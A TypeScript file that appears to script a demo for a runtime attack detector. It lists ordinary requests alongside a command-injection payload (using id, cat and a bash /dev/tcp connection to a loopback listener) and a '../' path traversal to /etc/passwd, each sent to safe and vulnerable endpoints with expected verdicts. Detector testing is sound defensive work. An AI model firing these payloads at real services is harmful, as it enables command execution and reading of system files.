/** What the demo sends, in order, and what a Throughline that watches should say about each request. */
export interface Step {
  readonly name: string;
  /** Request target, percent-encoded. */
  readonly target: string;
  /** The decoded value that matters, for people; null for ordinary requests. */
  readonly payload: string | null;
  /** The strongest verdict that is right: null means no finding at all. */
  readonly expected: 'PROBED' | 'EXPLOITED' | null;
  readonly why: string;
}

export interface StepOptions {
  /** Loopback port of the listener that the injected command connects to. */
  readonly listenerPort: number;
  /** A harmless file that every user may read. */
  readonly file: string;
  readonly withTraversal: boolean;
}

export function demoSteps({ listenerPort, file, withTraversal }: StepOptions): Step[] {
  const injection = `127.0.0.1; id; cat ${file}; bash -c 'echo it worked > /dev/tcp/127.0.0.1/${listenerPort}'`;
  // More levels than any checkout has: the root's parent is the root.
  const traversal = `${'../'.repeat(16)}etc/passwd`;
  return [
    ordinary('front page', '/'),
    ordinary('health check', '/health'),
    ordinary('ordinary ping', target('/ping', 'host', '127.0.0.1')),
    ordinary('ordinary ping, safe endpoint', target('/safe/ping', 'host', 'localhost')),
    ordinary('ordinary file', target('/file', 'name', 'welcome.txt')),
    {
      name: 'command injection, safe endpoint',
      target: target('/safe/ping', 'host', injection),
      payload: injection,
      expected: 'PROBED',
      why: 'the payload stays one argument of getent: nothing of it runs',
    },
    {
      name: 'command injection, vulnerable endpoint',
      target: target('/ping', 'host', injection),
      payload: injection,
      expected: 'EXPLOITED',
      why: 'a shell runs the payload: id, cat and bash start, a file is opened, a connection is made',
    },
    ...(withTraversal ? traversalSteps(traversal) : []),
  ];
}

function traversalSteps(payload: string): Step[] {
  return [
    {
      name: 'path traversal, safe endpoint',
      target: target('/safe/file', 'name', payload),
      payload,
      expected: 'PROBED',
      why: 'the path is checked first: nothing is opened',
    },
    {
      name: 'path traversal, vulnerable endpoint',
      target: target('/file', 'name', payload),
      payload,
      expected: 'EXPLOITED',
      why: 'the service opens /etc/passwd, far outside its directory',
    },
  ];
}

function ordinary(name: string, requestTarget: string): Step {
  return { name, target: requestTarget, payload: null, expected: null, why: 'ordinary use' };
}

function target(path: string, parameter: string, value: string): string {
  return `${path}?${parameter}=${encodeURIComponent(value)}`;
}
